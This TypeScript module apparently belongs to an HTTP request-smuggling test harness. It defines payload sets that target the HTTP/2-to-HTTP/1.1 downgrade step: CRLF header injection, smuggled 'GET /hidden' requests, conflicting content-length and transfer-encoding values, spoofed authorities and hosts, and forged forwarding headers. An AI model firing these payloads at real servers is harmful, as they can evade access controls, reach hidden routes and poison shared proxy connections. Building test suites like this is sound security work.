import { HOST, hidden, OTHER_HOST, type Stream, type StreamAttackClass } from '../payload.ts'

// HTTP/2 that becomes something else when it is written as HTTP/1.1: nothing in its framing keeps a
// line end out of a name or a value, and lengths are announced beside the frames that have them.

type Fields = readonly (readonly [name: string, value: string])[]

const ROUTE: Fields = [
  [':method', 'GET'],
  [':scheme', 'https'],
  [':authority', HOST],
]

const asking = (at: string, more: Fields = []): Fields => [...ROUTE, [':path', `${at}/a`], ...more]

const posting = (at: string, more: Fields = []): Fields => [
  [':method', 'POST'],
  [':scheme', 'https'],
  [':authority', HOST],
  [':path', `${at}/a`],
  ...more,
]

/** Asked last, on a stream of its own: a reader that is still in step answers it. */
const ending = (at: string): Stream => ({ fields: [...ROUTE, [':path', `${at}/end`]] })

const one = (fields: (at: string) => Fields, body?: (at: string) => string) => (at: string) => {
  const asked = body ? { fields: fields(at), body: body(at) } : { fields: fields(at) }
  return [asked, ending(at)]
}

const INJECTED = [
  '\r\nX-Injected: 1',
  '\r\nTransfer-Encoding: chunked',
  '\r\nContent-Length: 0',
  `\r\nHost: ${OTHER_HOST}`,
  '\r\n\r\nGET /hidden HTTP/1.1\r\nX: ',
  '\nX-Injected: 1',
  '\rX-Injected: 1',
  '\n\nGET /hidden HTTP/1.1\nX: ',
  '\0',
  '\0\r\n',
  '\x0b',
  '\x7f',
  '\x80',
  ' ',
  '\t',
  ': b',
  '\r\n',
  '\n',
  '\r',
  '\r\n ',
]

const CODINGS = ['chunked', 'identity', 'chunked, identity', ' chunked', 'x', '']

const LENGTHS = [
  '0',
  '1',
  '4',
  '6',
  '999',
  '+5',
  '05',
  '5,5',
  '-1',
  '',
  '5\r\nX: y',
  '18446744073709551621',
  '0x5',
  '5 ',
]

const PSEUDO = [':method', ':scheme', ':authority', ':path'] as const

const PATHS = [
  '/a b',
  '/a HTTP/1.1',
  '/a HTTP/1.1\r\nHost: email.other.test\r\n\r\nGET /hidden',
  '/a\r\nX: y',
  '/a\nX: y',
  '/a\0',
  '/a\t',
  '/a#f',
  '/a"',
  '/a\x80',
  '/<a>',
]

const AUTHORITIES = [
  OTHER_HOST,
  'stranger.test',
  `${HOST}:443`,
  `${HOST}:80`,
  HOST.toUpperCase(),
  `${HOST}.`,
  `u@${HOST}`,
  `${HOST}@${OTHER_HOST}`,
  `${HOST}\r\nX: y`,
  `${HOST} `,
  `${HOST}/`,
  `${HOST}, ${OTHER_HOST}`,
  `${HOST}\0`,
  '127.0.0.1',
  '[::1]',
  '',
  '*',
]

const METHODS = [
  'HEAD',
  'PUT',
  'DELETE',
  'OPTIONS',
  'TRACE',
  'CONNECT',
  'PRI',
  'get',
  'FOO',
  'GET /hidden HTTP/1.1\r\nX:',
  'GET ',
  'G\0ET',
  'GET\r\n',
  '',
  'POST',
]

const HOP_BY_HOP: Fields = [
  ['connection', 'close'],
  ['connection', 'content-length'],
  ['keep-alive', 'timeout=5'],
  ['proxy-connection', 'keep-alive'],
  ['upgrade', 'websocket'],
  ['upgrade', 'h2c'],
  ['http2-settings', 'AAMAAABkAAQAAP__'],
  ['te', 'trailers'],
  ['te', 'chunked'],
  ['te', 'trailers, chunked'],
  ['expect', '100-continue'],
  ['expect', 'x'],
  ['trailer', 'x'],
  ['x-forwarded-for', '6.6.6.6'],
  ['x_forwarded_for', '6.6.6.6'],
  ['forwarded', 'for=6.6.6.6'],
  ['content_length', '5'],
  ['via', '2 evil'],
  ['X-Upper', 'a'],
  ['Host', OTHER_HOST],
  ['', 'a'],
  [' x', 'a'],
  ['x ', 'a'],
  ['x:y', 'a'],
  [':x', 'a'],
  ['x', ' a'],
  ['x', 'a '],
  ['cookie', 'a=b\r\nX: y'],
]

const plain: StreamAttackClass = {
  class: 'h2-plain',
  payloads: [
    one((at) => asking(at)),
    one((at) =>
      asking(at, [
        ['user-agent', 'x'],
        ['accept', '*/*'],
        ['cookie', 'a=b'],
        ['cookie', 'c=d'],
      ]),
    ),
    one(
      (at) => posting(at),
      () => 'abcde',
    ),
    one(
      (at) => posting(at, [['content-length', '5']]),
      () => 'abcde',
    ),
    one((at) => posting(at, [['content-length', '0']])),
    one(
      (at) => posting(at, [['content-length', '200']]),
      () => 'x'.repeat(200),
    ),
    one((at) => asking(at, [['host', HOST]])),
    (at) => [1, 2, 3, 4].map((n) => ({ fields: [...ROUTE, [':path', `${at}/${n}`]] as Fields })),
  ],
}

const injections: StreamAttackClass = {
  class: 'h2-injection',
  payloads: INJECTED.flatMap((text) => [
    one((at) => asking(at, [['x-y', `a${text}`]])),
    one((at) => asking(at, [['x-y', `${text}a`]])),
    one((at) => asking(at, [['x-y', `a${text}b`]])),
    one((at) => asking(at, [[`x-y${text}`, 'a']])),
    one((at) => asking(at, [[`x-y: a${text}`, 'b']])),
    one((at) => asking(at, [['user-agent', `a${text}`]])),
    one((at) => [...ROUTE, [':path', `${at}/a${text}b`]]),
    one((at) => [
      [':method', 'GET'],
      [':scheme', `https${text}`],
      [':authority', HOST],
      [':path', `${at}/a`],
    ]),
  ]),
}

const lengths: StreamAttackClass = {
  class: 'h2-length',
  payloads: [
    ...LENGTHS.flatMap((length) => [
      one(
        (at) => posting(at, [['content-length', length]]),
        () => 'abcde',
      ),
      one((at) => posting(at, [['content-length', length]]), hidden),
      one(
        (at) =>
          posting(at, [
            ['content-length', '5'],
            ['content-length', length],
          ]),
        () => 'abcde',
      ),
    ]),
    one((at) => asking(at, [['content-length', '10']])),
    one((at) => asking(at, [['content-length', '0']])),
    one((at) => asking(at), hidden),
    ...CODINGS.flatMap((coding) => [
      one(
        (at) => posting(at, [['transfer-encoding', coding]]),
        (at) => `0\r\n\r\n${hidden(at)}`,
      ),
      one(
        (at) =>
          posting(at, [
            ['transfer-encoding', coding],
            ['content-length', '5'],
          ]),
        () => 'abcde',
      ),
      one((at) => asking(at, [['transfer-encoding', coding]])),
    ]),
    one(
      (at) => posting(at, [['transfer-encoding\r\n', 'chunked']]),
      (at) => `0\r\n\r\n${hidden(at)}`,
    ),
    one(
      (at) => posting(at, [['transfer_encoding', 'chunked']]),
      (at) => `0\r\n\r\n${hidden(at)}`,
    ),
    (at) => [{ fields: posting(at), body: 'abcde', trailers: [['x', 'y']] }, ending(at)],
    (at) => [
      { fields: posting(at), body: 'abcde', trailers: [['transfer-encoding', 'chunked']] },
      ending(at),
    ],
    (at) => [
      { fields: posting(at), body: 'abcde', trailers: [['content-length', '0']] },
      ending(at),
    ],
    (at) => [
      { fields: posting(at), body: 'abcde', trailers: [['x\r\nHost', OTHER_HOST]] },
      ending(at),
    ],
    (at) => [{ fields: posting(at), body: 'abcde', trailers: [[':path', '/hidden']] }, ending(at)],
  ],
}

const routes: StreamAttackClass = {
  class: 'h2-route',
  payloads: [
    ...PSEUDO.map((name) => one((at) => [...asking(at), [name, '/hidden']])),
    ...PSEUDO.map((name) => one((at) => asking(at).filter(([own]) => own !== name))),
    ...PSEUDO.map((name) =>
      one((at) => asking(at).map((field) => (field[0] === name ? ([name, ''] as const) : field))),
    ),
    ...PATHS.map((path) => one((at) => [...ROUTE, [':path', at + path]])),
    ...['', '*', 'x', 'http://email.other.test/', '//email.other.test/', '?a', '\\a'].map((path) =>
      one(() => [...ROUTE, [':path', path]]),
    ),
    ...AUTHORITIES.map((authority) =>
      one((at) => [
        [':method', 'GET'],
        [':scheme', 'https'],
        [':authority', authority],
        [':path', `${at}/a`],
      ]),
    ),
    ...AUTHORITIES.map((authority) => one((at) => asking(at, [['host', authority]]))),
    ...AUTHORITIES.map((authority) =>
      one((at) => [
        [':method', 'GET'],
        [':scheme', 'https'],
        [':path', `${at}/a`],
        ['host', authority],
      ]),
    ),
    ...METHODS.map((method) =>
      one((at) => [
        [':method', method],
        [':scheme', 'https'],
        [':authority', HOST],
        [':path', `${at}/a`],
      ]),
    ),
    ...['http', 'ftp', 'https://email.other.test/', 'HTTPS', 'javascript'].map((scheme) =>
      one((at) => [
        [':method', 'GET'],
        [':scheme', scheme],
        [':authority', HOST],
        [':path', `${at}/a`],
      ]),
    ),
    one((at) => [['x', 'y'], ...asking(at)]),
    one((at) => [...asking(at), [':status', '200']]),
    one((at) => [...asking(at), [':protocol', 'websocket']]),
    one((at) => [
      [':method', 'CONNECT'],
      [':protocol', 'websocket'],
      [':scheme', 'https'],
      [':authority', HOST],
      [':path', `${at}/a`],
    ]),
    one(() => [
      [':method', 'CONNECT'],
      [':authority', `${OTHER_HOST}:80`],
    ]),
    ...HOP_BY_HOP.map((field) => one((at) => asking(at, [field]))),
  ],
}

/** Attacks on the way from HTTP/2 to HTTP/1.1. */
export const DOWNGRADES: readonly StreamAttackClass[] = [plain, injections, lengths, routes]
